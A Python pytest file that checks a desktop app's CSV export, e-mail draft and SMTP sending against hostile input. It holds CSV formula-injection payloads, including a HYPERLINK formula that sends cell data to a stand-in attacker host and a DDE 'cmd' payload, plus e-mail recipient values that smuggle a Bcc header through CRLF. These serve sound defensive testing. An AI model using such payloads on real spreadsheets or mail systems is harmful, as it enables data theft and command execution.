"""Hostile content: CSV formula injection, e-mail header injection, SMTP without TLS (a local
aiosmtpd server on 127.0.0.1 only)."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import pathlib
import socket
import sqlite3
import zipfile
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
from attack_helpers import assert_refused, files_of

from alize_desktop.services.export.bundle_csv import cell, safe_text
from alize_desktop.services.export.email_draft import Covering, EmailProblem, compose
from alize_desktop.services.export.smtp_send import SendFailed, SmtpSettings, send_message, settings_problems

HOSTILE = ['=HYPERLINK("http://pirate.example/?v="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
           "=1+1", "+33 6 12 34 56 78"]


def _hostile_basin(demo_data: dict[str, Any]) -> dict[str, Any]:
    d = copy.deepcopy(demo_data)
    for i, text in enumerate(HOSTILE):
        d["partners"][i]["name"] = text
        d["companies"][i]["name"] = text
        d["expenses"][i]["label"] = text
    d["follow_ups"][0]["notes"] = "\t=1+1"  # tab and CR only fit in multi-line texts
    d["follow_ups"][1]["notes"] = "\r=1+1"
    return d


@pytest.fixture
def hostile_db(cli, tmp_path: pathlib.Path, demo_data: dict[str, Any]) -> pathlib.Path:  # type: ignore[no-untyped-def]
    src = tmp_path / "hostile.json"
    src.write_text(json.dumps(_hostile_basin(demo_data), ensure_ascii=False), "utf-8")
    base = tmp_path / "hostile.sqlite"
    assert cli("--db", base, "import", src).code == 0
    return base


def _rows(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=";"))


def test_bundle_csv_cells_are_neutralised_and_numbers_stay_numbers(cli, hostile_db: pathlib.Path,  # type: ignore[no-untyped-def]
                                                                 tmp_path: pathlib.Path) -> None:
    out = tmp_path / "paquet.zip"
    assert cli("--db", hostile_db, "export", "-o", out).code == 0
    with zipfile.ZipFile(out) as zf:
        tables = {n: _rows(zf.read(n)) for n in zf.namelist() if n.endswith(".csv")}
        data = json.loads(zf.read("data.json"))
    cells = [c for rows in tables.values() for row in rows[1:] for c in row]
    for text in HOSTILE:
        assert text not in cells  # never raw
        assert "'" + text in cells  # shown as typed, behind the apostrophe
    assert "'\t=1+1" in cells and "'\r=1+1" in cells
    dangerous = [c for c in cells if c and (c[0] in "=+@\t\r" or (c[0] == "-" and not _is_number(c)))]
    assert dangerous == []
    assert data["partners"][0]["name"] == HOSTILE[0]  # data.json keeps the exact text


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ".").replace("\u202f", "").replace(" ", ""))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("field, value, expected", [
    ("amount_cents", -125050, "-1250,50"), ("jobs_created", -3, "-3"), ("annual_rate", -0.5, "-0,5"),
    ("name", "-3", "'-3"), ("name", "=A1", "'=A1"), ("name", "a=b", "a=b"), ("label", "", ""),
])
def test_only_text_cells_are_neutralised(field: str, value: Any, expected: str) -> None:
    assert cell(field, value) == expected


def test_the_ledger_csv_neutralises_text_and_keeps_negative_amounts(hostile_db: pathlib.Path, tmp_path: pathlib.Path) -> None:
    from alize_desktop.db import open_database
    from alize_desktop.services.fund.ledger_csv import write_ledger

    engine = open_database(hostile_db)
    try:
        out = tmp_path / "grand-livre.csv"
        write_ledger(engine, out)
    finally:
        engine.dispose()
    rows = _rows(out.read_bytes())[1:]
    texts = [c for row in rows for c in (row[1], row[2], row[3], row[4], row[6])]
    assert not [c for c in texts if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(r[4] == "'" + HOSTILE[0] for r in rows)
    negatives = [r[5] for r in rows if r[5].startswith("-")]
    assert negatives and all(_is_number(a) for a in negatives)  # money out stays a number
    assert safe_text("-12,50") == "'-12,50"  # as text it would be neutralised: amounts never go through it


# -- e-mail header injection ----------------------------------------------------------------------

@pytest.mark.parametrize("to", ["a@astrees.example\r\nBcc: espion@pirate.example", "a@astrees.example\nX: y",
                                "a@astrees.example, espion@pirate.example", "a@astrees.example\x00"],
                         ids=["crlf", "lf", "two-addresses", "nul"])
def test_a_recipient_with_a_header_inside_is_refused_before_anything_is_written(
    cli, demo_db: pathlib.Path, tmp_path: pathlib.Path, to: str  # type: ignore[no-untyped-def]
) -> None:
    out, eml = tmp_path / "sortie" / "paquet.zip", tmp_path / "sortie" / "brouillon.eml"
    before = files_of(tmp_path)
    result = cli("--db", demo_db, "export", "-o", out, "--eml", eml, "--to", to)
    assert_refused(result, "adresse électronique valide")
    assert files_of(tmp_path) == before
    assert not out.exists() and not eml.exists()


@pytest.mark.parametrize("column, value, words", [
    ("name", "Bassin\r\nBcc: espion@pirate.example", "nom du bassin"),
    ("operator_email", "op@x.example\r\nBcc: espion@pirate.example", "adresse de l'opérateur"),
    ("operator_name", "Opérateur\nX-Evil: 1", "nom de l'opérateur"),
])
def test_a_basin_with_a_header_inside_is_refused_before_the_zip_is_written(
    cli, demo_db: pathlib.Path, tmp_path: pathlib.Path, column: str, value: str, words: str  # type: ignore[no-untyped-def]
) -> None:
    con = sqlite3.connect(demo_db)  # as a base written before the import refused such texts
    con.execute(f"UPDATE basin SET {column} = ?", (value,))
    con.commit()
    con.close()
    out, eml = tmp_path / "paquet.zip", tmp_path / "brouillon.eml"
    result = cli("--db", demo_db, "export", "-o", out, "--eml", eml, "--to", "a@astrees.example")
    assert_refused(result, words)
    assert not out.exists() and not eml.exists()


def test_compose_refuses_header_injection_in_every_address() -> None:
    cover = Covering(basin_name="B", operator_name="O", operator_email="op@x.example\nBcc: y@z.example",
                     representative=None, as_of=dt.date(2026, 11, 26), convention_id=None, zip_name="p.zip",
                     file_count=1)
    with pytest.raises(EmailProblem):
        compose(cover, b"PK", "a@b.example", draft=True)


# -- SMTP: never a password in clear ----------------------------------------------------------------

class _Spy:
    def __init__(self) -> None:
        self.auth_attempts: list[bytes] = []
        self.connections = 0
        self.envelopes: list[Any] = []

    def authenticate(self, server, session, envelope, mechanism, auth_data):  # type: ignore[no-untyped-def]
        self.auth_attempts.append(repr(auth_data).encode())
        return AuthResult(success=True)

    async def handle_EHLO(self, server, session, envelope, hostname, responses):  # noqa: N802 - aiosmtpd API
        self.connections += 1
        session.host_name = hostname
        return responses

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 - aiosmtpd API
        self.envelopes.append(envelope)
        return "250 OK"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def plain_server():  # type: ignore[no-untyped-def]
    spy = _Spy()
    controller = Controller(spy, hostname="127.0.0.1", port=_free_port(), authenticator=spy.authenticate,
                            auth_require_tls=False)
    controller.start()
    yield controller, spy
    controller.stop()


MESSAGE_COVER = Covering(basin_name="B", operator_name="O", operator_email="op@x.example", representative=None,
                         as_of=dt.date(2026, 11, 26), convention_id=None, zip_name="p.zip", file_count=1)


def test_no_password_is_sent_without_tls(plain_server) -> None:  # type: ignore[no-untyped-def]
    controller, spy = plain_server
    settings = SmtpSettings(host="127.0.0.1", port=controller.port, starttls=False, user="operateur")
    assert "en clair" in settings_problems(settings)["port"]
    with pytest.raises(SendFailed, match="le mot de passe partirait en clair") as refused:
        send_message(settings, compose(MESSAGE_COVER, b"PK", "a@b.example", draft=False), "motdepasse", timeout=5)
    assert "décochez" not in str(refused.value)
    assert spy.auth_attempts == [] and spy.connections == 0 and spy.envelopes == []


def test_a_server_without_starttls_never_gets_the_password(plain_server) -> None:  # type: ignore[no-untyped-def]
    controller, spy = plain_server
    settings = SmtpSettings(host="127.0.0.1", port=controller.port, starttls=True, user="operateur")
    with pytest.raises(SendFailed, match="ne propose pas STARTTLS") as refused:
        send_message(settings, compose(MESSAGE_COVER, b"PK", "a@b.example", draft=False), "motdepasse", timeout=5)
    assert "décochez" not in str(refused.value).lower()
    assert "jamais de mot de passe en clair" in str(refused.value)
    assert spy.auth_attempts == [] and spy.envelopes == []


def test_without_a_user_a_plain_server_still_receives(plain_server) -> None:  # type: ignore[no-untyped-def]
    """Control case: no password, nothing to protect: the local relay of an office still works."""
    controller, spy = plain_server
    settings = SmtpSettings(host="127.0.0.1", port=controller.port, starttls=False)
    send_message(settings, compose(MESSAGE_COVER, b"PK", "a@b.example", draft=False), timeout=5)
    assert len(spy.envelopes) == 1 and spy.auth_attempts == []
